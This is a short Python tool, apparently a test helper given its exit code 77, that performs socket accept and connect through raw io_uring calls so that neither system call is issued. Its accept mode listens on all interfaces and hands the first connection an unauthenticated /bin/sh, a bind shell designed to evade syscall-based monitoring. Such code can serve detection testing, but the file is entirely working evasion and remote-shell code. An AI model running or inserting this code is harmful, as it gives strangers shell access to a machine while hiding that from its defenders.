"""accept() and connect() by io_uring, without either system call.

    uring.py accept PORT           takes one connection, asks nobody for its peer, and is a shell on it
    uring.py connect HOST PORT     prints what the server says first
Exit 77 where this kernel has no io_uring for us. Numbers are those of linux/io_uring.h, the same everywhere.
"""
import ctypes
import mmap
import os
import socket
import struct
import sys

LIBC = ctypes.CDLL(None, use_errno=True)
SETUP, ENTER, ACCEPT, CONNECT, GETEVENTS = 425, 426, 13, 16, 1


class Ring:
    def __init__(self):
        p = ctypes.create_string_buffer(120)
        self.fd = LIBC.syscall(SETUP, 4, p)
        if self.fd < 0:
            print("no io_uring: " + os.strerror(ctypes.get_errno()), flush=True)
            sys.exit(77)
        words = struct.unpack("<30I", p.raw)
        self.sq, self.cq = words[10:18], words[20:28]  # offsets into the two rings
        size = max(self.sq[6] + 4 * words[0], self.cq[5] + 16 * words[1])
        self.sq_ring = mmap.mmap(self.fd, size, mmap.MAP_SHARED, offset=0)
        self.cq_ring = mmap.mmap(self.fd, size, mmap.MAP_SHARED, offset=0x8000000)
        self.sqes = mmap.mmap(self.fd, 64 * words[0], mmap.MAP_SHARED, offset=0x10000000)

    def do(self, opcode, fd, addr=0, off=0):
        struct.pack_into("<BBHiQQIIQ24x", self.sqes, 0, opcode, 0, 0, fd, off, addr, 0, 0, 1)
        tail = struct.unpack_from("<I", self.sq_ring, self.sq[1])[0]
        struct.pack_into("<I", self.sq_ring, self.sq[6], 0)
        struct.pack_into("<I", self.sq_ring, self.sq[1], tail + 1)
        if LIBC.syscall(ENTER, self.fd, 1, 1, GETEVENTS, None, 0) < 0:
            raise OSError(ctypes.get_errno(), "io_uring_enter")
        res = struct.unpack_from("<QiI", self.cq_ring, self.cq[5])[1]
        if res < 0:
            raise OSError(-res, "io_uring")
        return res


def accept(port):
    ring = Ring()
    s = socket.socket()
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind(("0.0.0.0", int(port)))
    s.listen()
    print("ready", flush=True)
    fd = ring.do(ACCEPT, s.fileno())
    for i in (0, 1, 2):
        os.dup2(fd, i)
    os.execv("/bin/sh", ["sh"])


def connect(host, port):
    ring = Ring()
    s = socket.socket()
    to = struct.pack("<H", socket.AF_INET) + struct.pack(">H", int(port)) + socket.inet_aton(host) + bytes(8)
    keep = ctypes.create_string_buffer(to, 16)
    ring.do(CONNECT, s.fileno(), ctypes.addressof(keep), 16)
    print(s.recv(100).decode("latin-1").strip(), flush=True)


{"accept": accept, "connect": connect}[sys.argv[1]](*sys.argv[2:])
